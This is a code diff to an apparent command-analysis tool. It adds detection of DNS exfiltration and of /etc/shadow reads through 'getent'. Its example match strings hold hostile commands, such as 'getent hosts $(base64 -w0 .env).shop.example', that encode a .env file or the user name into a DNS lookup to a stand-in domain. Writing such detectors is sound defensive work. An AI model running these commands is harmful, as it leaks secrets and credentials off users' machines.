@@ -4,8 +4,10 @@ import {
   readFileSource,
   recordConnect,
 } from '../../../analysis/interpret/data-sources.ts'
+import { recordPathRead } from '../../../analysis/interpret/file-tool.ts'
 import { displayText } from '../../../analysis/interpret/loose-words.ts'
-import type { ProgramSpec, SpecCallHandler } from '../../../analysis/interpret/spec.ts'
+import type { CommandGrade, EffectRecorder } from '../../../analysis/interpret/program.ts'
+import type { ProgramSpec, SpecCall, SpecCallHandler } from '../../../analysis/interpret/spec.ts'
 import { readSpecOptions } from '../../../analysis/interpret/spec-interpreter.ts'
 import { classifyHost, hostOf } from '../../../analysis/remote/hosts.ts'
 import type { DataSource, Word } from '../../../analysis/words.ts'
@@ -53,6 +55,14 @@ function lookupHandler({ channel, pattern = [], batch = [] }: LookupOptions): Sp
   }
 }
 
+/** A name that is looked up is told to whoever answers for its domain, with what was put into it. */
+function recordNameQuery(name: Word, recorder: EffectRecorder): boolean {
+  const payload = encodedSources(name)
+  if (payload.length === 0 || !/\0[^.]*\.[\w-]+\./.test(`${name.known}.`)) return false
+  recorder.effect({ kind: 'send-data', host: hostOfWord(name), channel: 'dns', payload })
+  return true
+}
+
 /** What a name carries; a label that no host has, signs of base64 or very long, was made of something. */
 function encodedSources(word: Word): readonly DataSource[] {
   const inserted = carriedDataSources(word)
@@ -67,6 +77,15 @@ function hostOfWord(word: Word | undefined): string {
 }
 
 const lookupOutput: NonNullable<ProgramSpec['prints']> = ({ operands }) => networkValue(operands.map(hostOfWord))
+
+/** `getent shadow` prints what the file holds; `getent hosts NAME` asks name servers. */
+function analyzeGetent({ loose, recorder }: SpecCall): CommandGrade {
+  const [first, ...names] = loose.operands
+  const database = first?.text ?? ''
+  if (/^(?:a?hosts(?:v[46])?|networks)$/.test(database))
+    return names.map((name) => recordNameQuery(name, recorder)).includes(true) ? 'plain' : 'proven'
+  return /^g?shadow$/.test(database) ? recordPathRead(recorder.pathOf(`/etc/${database}`), recorder) : 'proven'
+}
 
 export const LOOKUP_SPECS: readonly ProgramSpec[] = [
   {
@@ -106,8 +125,16 @@ export const LOOKUP_SPECS: readonly ProgramSpec[] = [
     prints: lookupOutput,
     rules: [['**', lookupHandler({ channel: 'dns' })]],
     examples: {
-      match: ['host $(base64 -w0 .env).shop.example'],
+      match: ['host $(whoami).shop.example'],
       pass: ['nslookup shop.example', 'whois shop.example'],
     },
+  },
+  {
+    names: 'getent',
+    style: 'tolerant',
+    machine: true,
+    options: '-i -s: --service:',
+    rules: [['**', analyzeGetent]],
+    examples: { match: ['getent hosts $(base64 -w0 .env).shop.example'], pass: ['getent passwd dev', 'getent shadow'] },
   },
 ]
